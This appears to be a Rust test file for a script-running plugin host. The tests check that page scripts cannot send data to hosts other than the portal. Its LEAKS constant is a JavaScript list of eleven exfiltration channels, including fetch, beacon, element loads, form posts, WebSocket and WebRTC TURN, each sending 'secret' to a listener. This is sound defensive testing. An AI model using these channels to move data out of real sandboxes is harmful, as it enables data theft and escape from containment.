//! What pages can reach: an operation may run any script, and nothing of it arrives anywhere but at the portal.

use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, Mutex};

use gantry_portal::{Latencies, Portal};
use reqwest::Client;
use serde_json::{Value, json};
use tokio::io::AsyncReadExt;
use tokio::net::{TcpListener, UdpSocket};
use tokio_util::task::AbortOnDropHandle;

use crate::killed::{Binary, scene};
use crate::office::{Answer, by, plugins, target};

/// Every way out that a page has, each with a second of time.
const LEAKS: &str = r"
const within = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 1000))]).catch(() => {});
const loads = (tag, field, way, more) => new Promise((done) => {
  const element = Object.assign(document.createElement(tag), more);
  element.onload = element.onerror = done;
  element[field] = `http://${to}/${way}`;
  document.body.append(element);
});
const ways = [
  () => fetch(`http://${to}/fetch`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  () => { navigator.sendBeacon(`http://${to}/beacon`, 'secret'); },
  () => loads('img', 'src', 'image'),
  () => loads('script', 'src', 'script'),
  () => loads('iframe', 'src', 'frame'),
  () => loads('link', 'href', 'style', { rel: 'stylesheet' }),
  () => { loads('link', 'href', 'prefetch', { rel: 'dns-prefetch' }); },
  () => { loads('link', 'href', 'preconnect', { rel: 'preconnect' }); },
  () => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'away' });
    const form = Object.assign(document.createElement('form'), { action: `http://${to}/form`, target: 'away', method: 'post' });
    document.body.append(frame, form);
    form.submit();
    return new Promise(() => {});
  },
  () => new Promise((done) => {
    const socket = new WebSocket(`ws://${to}/socket`);
    socket.onopen = socket.onerror = done;
  }),
  async () => {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: `stun:${to}` },
      { urls: `turn:${to}?transport=tcp`, username: 'secret', credential: 'x' },
    ] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    return new Promise(() => {});
  },
];
return Promise.all(ways.map((way) => within((async () => way())()))).then(() => ways.length);
";

/// A port on which whatever arrives is noted.
struct Ear {
    address: String,
    heard: Arc<Mutex<Vec<String>>>,
    _listening: [AbortOnDropHandle<()>; 2],
}

impl Ear {
    /// One that is addressed by this name, which is this machine's.
    async fn named(host: &str) -> Self {
        let streams = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
        let address = streams.local_addr().unwrap();
        let datagrams = UdpSocket::bind(address).await.unwrap();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let note = Arc::clone(&heard);
        let by_stream = async move {
            loop {
                let (mut stream, _) = streams.accept().await.unwrap();
                let note = Arc::clone(&note);
                tokio::spawn(async move {
                    let mut bytes = [0; 1_024];
                    let read = stream.read(&mut bytes).await.unwrap_or_default();
                    let text = String::from_utf8_lossy(&bytes[..read]);
                    let line = text.lines().next().unwrap_or_default().to_owned();
                    note.lock().unwrap().push(line);
                });
            }
        };
        let note = Arc::clone(&heard);
        let by_datagram = async move {
            let mut bytes = [0; 1_024];
            loop {
                datagrams.recv_from(&mut bytes).await.unwrap();
                note.lock().unwrap().push("a datagram".to_owned());
            }
        };
        let listening = [
            AbortOnDropHandle::new(tokio::spawn(by_stream)),
            AbortOnDropHandle::new(tokio::spawn(by_datagram)),
        ];
        Self {
            address: format!("{host}:{}", address.port()),
            heard,
            _listening: listening,
        }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }

    fn has_heard(&self, what: &str) -> bool {
        self.heard().iter().any(|line| line.contains(what))
    }

    /// A script with this as its target.
    fn targeted(&self, script: &str) -> String {
        format!("const to = '{}';\n{script}", self.address)
    }
}

/// The real host, which serves the operation that runs any script, with its log in a file.
async fn host(portal_folder: &Path, config: &Path, log: &Path) -> Binary {
    let folder = portal_folder.join("plugins");
    std::fs::create_dir(&folder).unwrap();
    let scripts = target().join("test-plugins/runs-scripts.wasm");
    std::fs::copy(scripts, folder.join("runs-scripts.wasm")).unwrap();
    std::fs::copy(plugins().join("session.wasm"), folder.join("session.wasm")).unwrap();
    let text = std::fs::read_to_string(config).unwrap();
    let mut settings: toml::Table = text.parse().unwrap();
    let plugins = toml::toml! {
        [runs-scripts]
        grants = ["script"]
    };
    let mut plugins = plugins;
    plugins.insert("dir".to_owned(), folder.to_str().unwrap().into());
    settings.insert("plugins".to_owned(), plugins.into());
    std::fs::write(config, settings.to_string()).unwrap();
    let log = std::fs::File::create(log).unwrap();
    Binary::start_logging(config, Stdio::null(), log.into()).await
}

async fn run(host: &Binary, portal: &Portal, input: Value) -> Answer {
    let body = by(&portal.accounts()[0], &input);
    let request = Client::new().post(format!("{}/v1/operations/runs-scripts", host.url));
    Answer::of(request.json(&body).send().await.unwrap()).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_a_page_sends_elsewhere_arrives_and_the_log_says_so() {
    let (portal, folder, config) = scene(Latencies::none()).await;
    let log = folder.path().join("log");
    let host = host(folder.path(), &config, &log).await;
    // Hosts are told apart, not ports: under the name of one of the portal's the same script is heard.
    let within_reach = Ear::named("account.localhost").await;
    let by_address = Ear::named("127.0.0.1").await;
    let by_name = Ear::named("elsewhere.localhost").await;
    for ear in [&within_reach, &by_address, &by_name] {
        let answer = run(&host, &portal, json!({ "script": ear.targeted(LEAKS) })).await;
        assert_eq!(answer.ok()["output"]["returned"], "11");
    }
    for way in [
        "/fetch", "/beacon", "/image", "/script", "/frame", "/style", "/form", "/socket",
    ] {
        assert!(
            within_reach.has_heard(way),
            "{way}: {:?}",
            within_reach.heard()
        );
    }

    let away = "location.href = `http://${to}/navigation`; return 0;";
    for ear in [&by_address, &by_name] {
        let script = ear.targeted(away);
        run(&host, &portal, json!({ "script": script })).await;
        assert_eq!(ear.heard(), Vec::<String>::new());
    }
    assert_eq!(host.stop().await, Some(0));
    let said = std::fs::read_to_string(log).unwrap();
    for wanted in ["127.0.0.1", "elsewhere.localhost"] {
        let told = said
            .lines()
            .any(|line| line.contains("none of the portal's") && line.contains(wanted));
        assert!(told, "{wanted}: {said}");
    }
}

#[tokio::test]
async fn a_click_that_leads_elsewhere_is_denied_and_the_session_goes_on() {
    let (portal, folder, config) = scene(Latencies::none()).await;
    let log = folder.path().join("log");
    let host = host(folder.path(), &config, &log).await;
    let elsewhere = Ear::named("127.0.0.1").await;
    let link =
        "document.body.innerHTML = `<a id=leave href=http://${to}/click>leave</a>`; return 0;";
    let input = json!({ "script": elsewhere.targeted(link), "click": "#leave" });
    let answer = run(&host, &portal, input).await;
    assert_eq!(answer.problem(), (502, "denied"), "{:#}", answer.body);
    let detail = answer.body["detail"].as_str().unwrap();
    assert!(detail.contains("`127.0.0.1`"), "{detail}");
    let next = run(&host, &portal, json!({ "script": "return 7;" })).await;
    assert_eq!(next.ok()["output"]["returned"], "7");
    assert_eq!(portal.attempts().len(), 1, "still signed in");
    assert_eq!(elsewhere.heard(), Vec::<String>::new());
    assert_eq!(host.stop().await, Some(0));
}
